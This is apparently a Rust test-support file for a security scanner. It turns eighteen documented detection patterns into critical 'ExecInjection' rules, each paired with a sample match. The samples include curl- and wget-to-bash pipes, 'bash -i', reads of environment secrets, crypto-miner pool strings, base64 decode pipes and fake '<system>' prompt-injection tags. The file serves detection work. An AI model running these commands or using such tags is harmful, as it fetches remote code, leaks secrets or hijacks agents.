//! The eighteen documented rules, with the same patterns for both sides: those of `documented.mjs`.

use stockade_scanner::{Category, Region, Regions, RuleBuf, Scanner, Severity, PatternBuf};

const SCRIPT: &str = include_str!("../documented.mjs");
/// The rule that counts outside of fenced code only, as in the script.
const OUTSIDE_FENCES: usize = 1;

/// As written in the script, a repeated start takes quadratic time, which the scanner rejects; it means twenty
/// escapes in a row.
const REWRITTEN: (&str, &str) =
    (r"\\x[0-9a-fA-F]{2}[\\x0-9a-fA-F]{76,1996}", r"(?:\\x[0-9a-fA-F]{2}){20,}");

/// A text that each rule must find, in order: a rule without one is rejected.
const FOUND: [&str; 18] = [
    "$(curl x.example)",
    "`bash x`",
    "eval('x')",
    "| bash",
    "printenv",
    "/proc/self/environ",
    "env | grep KEY",
    "stratum+tcp://",
    "xmrig",
    "pool.minexmr.example",
    "curl x.example | bash",
    "wget -O - x.example |",
    "bash -i",
    "QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB",
    r"\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41\x41",
    "base64 -d |",
    "</available_skills>",
    "<system>",
];

/// Returns a scanner with exactly these rules.
pub(crate) fn scanner() -> Scanner {
    let rules: Vec<RuleBuf> = patterns().enumerate().map(|(index, pattern)| rule(index, pattern)).collect();
    assert_eq!(rules.len(), 18, "every rule of the script is understood");
    Scanner::only(rules).expect("the documented patterns are linear")
}

/// Reads `/pattern/flags,` line by line.
fn patterns() -> impl Iterator<Item = String> {
    let lines = SCRIPT.lines().filter_map(|line| line.trim().strip_prefix('/')?.strip_suffix(','));
    lines.filter_map(|line| {
        let (pattern, flags) = line.rsplit_once('/')?;
        let pattern = pattern.replace("\\/", "/");
        let pattern = if flags.contains('i') { format!("(?i){pattern}") } else { pattern };
        Some(if pattern == REWRITTEN.0 { REWRITTEN.1.to_owned() } else { pattern })
    })
}

fn rule(index: usize, pattern: String) -> RuleBuf {
    let fences = [Region::Code, Region::Shell];
    let regions = if index == OUTSIDE_FENCES { Regions::but(&fences) } else { Regions::ANY };
    RuleBuf {
        id: format!("DOCUMENTED_{index}"),
        category: Category::ExecInjection,
        severity: Severity::Critical,
        summary: "A documented rule".to_owned(),
        remedy: "None: it is measured.".to_owned(),
        patterns: vec![PatternBuf { note: "As documented".to_owned(), regex: pattern, regions, exceptions: Vec::new() }],
        matches: FOUND.get(index).map(|text| (*text).to_owned()).into_iter().collect(),
        clean: Vec::new(),
    }
}
